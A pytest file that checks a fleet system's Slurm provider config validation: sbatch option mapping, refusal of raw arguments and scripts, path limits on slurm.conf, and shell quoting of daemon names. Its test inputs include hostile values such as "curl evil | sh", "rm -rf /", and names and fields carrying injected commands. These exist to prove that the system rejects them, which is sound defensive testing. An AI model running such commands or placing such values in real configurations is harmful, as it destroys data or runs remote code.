"""A `slurm` provider's config holds structured keys only: each becomes one sbatch
option through a fixed table, values are checked so none can become another option,
and raw sbatch arguments or scripts are refused. No cluster needed here."""

import pytest

from fleet import slurm
from fleet.driver_base import ProviderError
from fleet.models import Daemon, Provider
from queues.models import Queue
from tests.support import builders
from tests.support.assertions import assert_error

pytestmark = pytest.mark.django_db

URL = "/api/v1/providers/"


def add(client, config):
    return client.post(URL, {"name": "hpc", "kind": "slurm", "config": config}, format="json")


GOOD = {
    "partition": "gpu,debug",
    "account": "ml-team",
    "qos": "normal",
    "time_limit": "1-12:00:00",
    "cpus_per_task": 8,
    "mem": "64G",
    "gres": "gpu:a100:1",
    "constraint": "a100&ib",
    "concurrency": 4,
    "slurm_conf": "/etc/slurm/slurm.conf",
    "credential_ref": "vault:hpc",
    "instance_types": {"a100x1": {"gres": "gpu:a100:1", "cpus_per_task": 8, "mem": "64G"}},
}


def test_it_accepts_every_structured_key(operator):
    response = add(operator, GOOD)

    assert response.status_code == 201, response.json()
    assert Provider.objects.get(name="hpc").config == GOOD


@pytest.mark.parametrize("time_limit", ["60", "30:00", "4:00:00", "2-0", "1-12:00", "1-12:00:00"])
def test_it_accepts_slurms_time_formats(operator, time_limit):
    assert add(operator, {"time_limit": time_limit}).status_code == 201


@pytest.mark.parametrize(
    "key, value",
    [
        ("sbatch_args", "--wrap='curl evil | sh'"),
        ("script", "#!/bin/sh\nrm -rf /"),
        ("wrap", "id"),
        ("extra_args", ["--exclusive"]),
        ("command", "/bin/sh"),
    ],
)
def test_raw_sbatch_arguments_and_scripts_are_refused(operator, key, value):
    response = add(operator, {"partition": "debug", key: value})

    error = assert_error(response, 400, "invalid", field=f"config.{key}")
    assert "raw sbatch arguments and scripts are not accepted" in error["fields"][f"config.{key}"]
    assert "partition" in error["fields"][f"config.{key}"]  # it names the structured keys
    assert not Provider.objects.exists()


@pytest.mark.parametrize(
    "config, field, says",
    [
        ({"partition": "debug --wrap=id"}, "partition", 'must look like "debug"'),
        ({"partition": "-p"}, "partition", "must look like"),
        ({"account": "a b"}, "account", "must look like"),
        ({"qos": ""}, "qos", "must look like"),
        ({"time_limit": "forever"}, "time_limit", "must look like"),
        ({"time_limit": 60}, "time_limit", "must look like"),
        ({"cpus_per_task": 0}, "cpus_per_task", "from 1 to 4096"),
        ({"mem": "64 G"}, "mem", "must look like"),
        ({"gres": "gpu:1 --exclusive"}, "gres", "must look like"),
        ({"constraint": "a100;id"}, "constraint", "must look like"),
        ({"slurm_conf": "slurm.conf"}, "slurm_conf", "absolute path"),
        ({"slurm_conf": "/etc/slurm conf"}, "slurm_conf", "without spaces"),
        ({"concurrency": 65}, "concurrency", "from 1 to 64"),
        ({"instance_types": ["a100"]}, "instance_types", "must be an object"),
        ({"instance_types": {"a100": "gpu:1"}}, "instance_types", "a100: must be an object"),
        ({"instance_types": {"a100": {"script": "x"}}}, "instance_types", "a100.script: raw"),
        ({"instance_types": {"a100": {"region": "x"}}}, "instance_types", "a100.region: unknown"),
        ({"instance_types": {"a100": {"mem": "lots"}}}, "instance_types", "a100.mem: must look"),
        ({"instance_types": {"a 100": {}}}, "instance_types", "not an instance type name"),
        ({"instance_types": {"x": {"slurm_conf": "/x"}}}, "instance_types", "x.slurm_conf"),
        ({"slurm_conf": "/tmp/mine/slurm.conf"}, "slurm_conf", "under /etc/slurm"),
        ({"slurm_conf": "/etc/slurm/../../tmp/slurm.conf"}, "slurm_conf", "under /etc/slurm"),
        ({"slurm_conf": "/etc/slurmx/slurm.conf"}, "slurm_conf", "LAKESHORE_SLURM_CONF_DIRS"),
    ],
)
def test_a_bad_value_is_refused_naming_the_key(operator, config, field, says):
    response = add(operator, config)

    error = assert_error(response, 400, "invalid", field=f"config.{field}")
    assert says in error["fields"][f"config.{field}"], error
    assert not Provider.objects.exists()


def test_slurm_conf_lies_under_a_directory_the_servers_owner_allows(operator, settings, tmp_path):
    """Slurm's commands load plugins from where a slurm.conf says: a provider may name
    only a file under LAKESHORE_SLURM_CONF_DIRS, links resolved. Where the commands
    run, it is checked again (the directories may have changed since)."""
    allowed, elsewhere = tmp_path / "allowed", tmp_path / "elsewhere"
    allowed.mkdir()
    elsewhere.mkdir()
    (elsewhere / "slurm.conf").write_text("PluginDir=/tmp/evil\n")
    (allowed / "link.conf").symlink_to(elsewhere / "slurm.conf")
    (allowed / "slurm.conf").write_text("ClusterName=x\n")
    settings.LAKESHORE_SLURM_CONF_DIRS = [str(allowed)]

    outside = add(operator, {"slurm_conf": str(elsewhere / "slurm.conf")})
    linked = add(operator, {"slurm_conf": str(allowed / "link.conf")})
    inside = add(operator, {"slurm_conf": str(allowed / "slurm.conf")})

    assert_error(outside, 400, "invalid", field="config.slurm_conf", says=str(allowed))
    assert_error(linked, 400, "invalid", field="config.slurm_conf", says=str(allowed))
    assert inside.status_code == 201, inside.json()  # control
    provider = Provider.objects.get(name="hpc")
    assert slurm.SlurmCommands(provider).conf_problem is None
    settings.LAKESHORE_SLURM_CONF_DIRS = ["/etc/slurm"]
    with pytest.raises(ProviderError, match="must be a file under /etc/slurm"):
        slurm.SlurmCommands(provider).require("sinfo")


def _queue(**fields) -> Queue:
    return builders.queue(name="train", provider="hpc", **fields)


def test_the_template_maps_config_and_instance_type_onto_sbatch_options():
    provider = builders.provider(name="hpc", kind="slurm", config=GOOD)
    plain = slurm.template(provider, _queue())
    assert plain.options == [
        "--partition=gpu,debug",
        "--account=ml-team",
        "--qos=normal",
        "--time=1-12:00:00",
        "--cpus-per-task=8",
        "--mem=64G",
        "--gres=gpu:a100:1",
        "--constraint=a100&ib",
    ]
    assert (plain.concurrency, plain.isolation) == (4, "pool")


def test_an_instance_type_overrides_the_providers_resources():
    config = {
        "partition": "cpu",
        "mem": "4G",
        "instance_types": {"a100x2": {"gres": "gpu:a100:2", "mem": "128G", "concurrency": 2}},
    }
    provider = builders.provider(name="hpc", kind="slurm", config=config)
    t = slurm.template(provider, _queue(instance_type="a100x2", runner="process"))
    assert t.options == ["--partition=cpu", "--mem=128G", "--gres=gpu:a100:2"]
    assert (t.concurrency, t.isolation) == (2, "process")


def test_an_unknown_instance_type_or_runner_fails_the_launch_and_says_which():
    provider = builders.provider(name="hpc", kind="slurm", config={"instance_types": {"a": {}}})
    with pytest.raises(ProviderError, match=r"instance type 'p4d.24xlarge' is not in provider"):
        slurm.template(provider, _queue(instance_type="p4d.24xlarge"))
    Queue.objects.all().delete()
    with pytest.raises(ProviderError, match=r"runner 'docker' means nothing"):
        slurm.template(provider, _queue(runner="docker"))


def test_the_batch_script_quotes_names_and_holds_no_token():
    provider = builders.provider(name="hpc", kind="slurm")
    queue = _queue()
    daemon = builders.daemon(queues=["train"], name="train-slurm-1; rm -rf ~", provider=provider)
    script = slurm.batch_script("/opt/ls/lakeshore", queue, daemon, slurm.template(provider, queue))
    assert "exec /opt/ls/lakeshore daemon run --queues train --name 'train-slurm-1; rm -rf ~'" in (
        script
    )
    assert "TOKEN" not in script and "lsk_" not in script


def test_missing_slurm_commands_fail_with_an_install_hint(monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    provider = builders.provider(name="hpc", kind="slurm")
    with pytest.raises(ProviderError) as caught:
        slurm.SlurmCommands(provider).run("sbatch", ["--version"])
    assert "sbatch: command not found" in str(caught.value)
    assert "apt-get install slurm-client munge" in str(caught.value)


def test_a_tick_without_the_slurm_commands_records_nothing_but_the_failed_launch(
    monkeypatch,
):
    monkeypatch.setenv("PATH", "/nonexistent")
    builders.provider(name="hpc", kind="slurm", config={"partition": "debug"})
    queue = _queue(elasticity_spec={"kind": "fixed", "min": 1})
    event = builders.tick_queue(queue.pk)
    assert event.action == "launch_failed"
    assert "launch of 1 failed (hpc: sbatch: command not found" in event.reason
    assert "backing off" in event.reason
    assert not Daemon.objects.exists()  # no row, no token: nothing to clean up
